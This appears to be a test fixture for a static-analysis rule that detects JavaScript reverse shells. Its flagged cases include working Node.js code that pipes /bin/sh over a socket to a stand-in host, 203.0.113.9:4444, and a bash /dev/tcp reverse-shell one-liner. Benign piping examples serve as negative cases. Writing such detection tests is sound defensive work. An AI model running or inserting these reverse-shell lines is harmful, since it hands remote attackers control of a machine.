const net = require("net");
const { spawn, exec } = require("child_process");
const fs = require("fs");

function callHome() {
  const sh = spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(4444, "203.0.113.9", () => {
    // ruleid: javascript-reverse-shell
    client.pipe(sh.stdin);
    // ruleid: javascript-reverse-shell
    sh.stdout.pipe(client);
    // ruleid: javascript-reverse-shell
    sh.stderr.pipe(client);
  });
  // ruleid: javascript-reverse-shell
  exec("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'");
}

function build(file, client) {
  const p = spawn("bash", ["build.sh"]);
  // ok: javascript-reverse-shell
  p.stdout.pipe(client);
  // ok: javascript-reverse-shell
  p.stdout.pipe(process.stdout);
  // ok: javascript-reverse-shell
  process.stdin.pipe(p.stdin);
  // ok: javascript-reverse-shell
  p.stdout.pipe(fs.createWriteStream(file));
  // ok: javascript-reverse-shell
  exec("nc -z localhost 5432");
  const site = net.connect(80, "localhost");
  // ok: javascript-reverse-shell
  site.pipe(process.stdout);
}
